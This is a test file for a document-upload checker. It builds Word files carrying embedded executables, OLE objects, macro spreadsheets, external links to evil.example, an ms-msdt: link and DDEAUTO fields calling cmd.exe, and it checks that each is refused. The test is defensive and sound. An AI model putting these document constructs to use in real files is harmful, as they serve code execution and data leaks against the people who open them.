import { describe, expect, test } from 'vitest';
import { createJudge } from './testing/judge.ts';
import { docxParts, sampleDoc, samplePng, sampleZip, type ZipPart } from './testing/samples.ts';

const { judge } = await createJudge();

/** Word documents that carry something else (rule 53). */

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, more = ''): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/${type}" Target="${target}"${more}/></Relationships>`,
});
const docx = (...parts: readonly ZipPart[]): Buffer => sampleZip([...docxParts(), ...parts]);
const sheet = (...parts: readonly ZipPart[]): ZipPart => ({
  name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
  data: sampleZip([{ name: 'xl/workbook.xml', data: '<workbook/>' }, ...parts]),
});
const field = (text: Buffer): Buffer => {
  const doc = sampleDoc();
  text.copy(doc, doc.length - 2048);
  return doc;
};

describe('what a document brings along is refused', () => {
  test.each<[string, Buffer, string]>([
    [
      'an archive',
      docx({ name: 'word/embeddings/a.zip', data: sampleZip([{ name: 'a.exe', data: 'MZ' }]) }),
      'con_objetos',
    ],
    [
      'an object',
      docx({ name: 'word/embeddings/oleObject1.bin', data: Buffer.alloc(2048, 1) }),
      'con_objetos',
    ],
    [
      'an object under the name of a picture',
      docx(relation('oleObject', 'media/image1.png'), { name: 'word/media/image1.png', data: samplePng() }),
      'con_objetos',
    ],
    [
      'a chapter that is a page',
      docx(relation('aFChunk', 'afchunk.xml'), { name: 'word/afchunk.xml', data: '<p/>' }),
      'con_objetos',
    ],
    ['a chapter in another format', docx({ name: 'word/afchunk.rtf', data: '{\\rtf1}' }), 'con_objetos'],
    [
      'another document',
      docx(relation('subDocument', 'capitulo.xml'), { name: 'word/capitulo.xml', data: '<p/>' }),
      'con_objetos',
    ],
    [
      'a control',
      docx(relation('control', 'activo.xml'), { name: 'word/activo.xml', data: '<p/>' }),
      'con_macros',
    ],
    ['a file of OneNote', docx({ name: 'word/embeddings/a.one', data: 'x' }), 'con_objetos'],
    [
      'a file that sets Windows up',
      docx({ name: 'word/embeddings/a.settingcontent-ms', data: 'x' }),
      'con_objetos',
    ],
    ['a file without an extension', docx({ name: 'word/embeddings/archivo', data: 'x' }), 'con_objetos'],
    ['a spreadsheet with macros', docx(sheet({ name: 'xl/vbaProject.bin', data: 'x' })), 'con_macros'],
    ['a spreadsheet with an archive', docx(sheet({ name: 'xl/embeddings/a.zip', data: 'x' })), 'con_objetos'],
    [
      'a spreadsheet with a document in it',
      docx(sheet({ name: 'xl/embeddings/a.docx', data: 'x' })),
      'con_objetos',
    ],
    [
      'a spreadsheet that fetches',
      docx(
        sheet({
          name: 'xl/_rels/workbook.xml.rels',
          data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/oleObject" Target="https://evil.example/x" TargetMode="External"/></Relationships>`,
        }),
      ),
      'contenido_externo',
    ],
    ['a spreadsheet that is none', docx({ name: 'word/embeddings/a.xlsx', data: 'MZ' }), 'danado'],
    [
      'a link that opens a program',
      docx(relation('hyperlink', 'ms-msdt:/id x', ' TargetMode="External"')),
      'contenido_externo',
    ],
    [
      'a link to a share',
      docx(relation('hyperlink', 'file://evil.example/a', ' TargetMode="External"')),
      'contenido_externo',
    ],
  ])('%s', async (_, bytes, code) => {
    expect(await judge(bytes, 'docx')).toBe(code);
  });

  test.each<[string, Buffer, string]>([
    ['an object', sampleDoc([{ name: '\u0003ObjInfo', storage: false }]), 'con_objetos'],
    [
      'an equation of the old editor',
      sampleDoc([{ name: 'Equation Native', storage: false }]),
      'con_objetos',
    ],
    ['a package', sampleDoc([{ name: 'Package', storage: false }]), 'con_objetos'],
    ['a control', sampleDoc([{ name: '\u0003OCXNAME', storage: false }]), 'con_objetos'],
    ['a field that calls a program', field(Buffer.from('\x13 DDEAUTO c:\\cmd.exe', 'latin1')), 'con_macros'],
    ['the same in wide letters', field(Buffer.from('\x13 DDE c:\\cmd.exe', 'utf16le')), 'con_macros'],
  ])('of an old document: %s', async (_, bytes, code) => {
    expect(await judge(bytes, 'doc')).toBe(code);
  });
});

describe('what Word itself puts into a document passes', () => {
  test.each<[string, Buffer]>([
    [
      'the spreadsheet of a chart',
      docx(
        sheet({ name: 'xl/printerSettings/printerSettings1.bin', data: 'x' }),
        relation('package', 'embeddings/Microsoft_Excel_Worksheet.xlsx'),
      ),
    ],
    [
      'pictures, drawings and fonts',
      docx(
        ...[
          'media/image1.png',
          'media/image2.svg',
          'media/image3.emf',
          'media/image4.jpeg',
          'fonts/font1.odttf',
          'fonts/Roboto-regular.ttf',
        ].map((name) => ({ name: `word/${name}`, data: '<svg/>' })),
      ),
    ],
    [
      'a signature, a theme and properties',
      docx(
        { name: '_xmlsignatures/origin.sigs', data: '' },
        { name: 'word/theme/theme1.xml', data: '<a/>' },
        { name: 'package/services/metadata/core-properties/a.psmdcp', data: '<a/>' },
        { name: 'docProps/thumbnail.jpeg', data: 'x' },
      ),
    ],
    ['links to pages and mail', docx(relation('hyperlink', 'https://www.gob.mx', ' TargetMode="External"'))],
  ])('%s', async (_, bytes) => {
    expect(await judge(bytes, 'docx')).toBe('ok');
  });

  test('the place that Word keeps for objects, empty', async () => {
    expect(await judge(sampleDoc([{ name: 'ObjectPool', storage: true }]), 'doc')).toBe('ok');
    expect(await judge(field(Buffer.from('\x13 DATE \\@ "d/M/yyyy" \x14', 'latin1')), 'doc')).toBe('ok');
  });
});
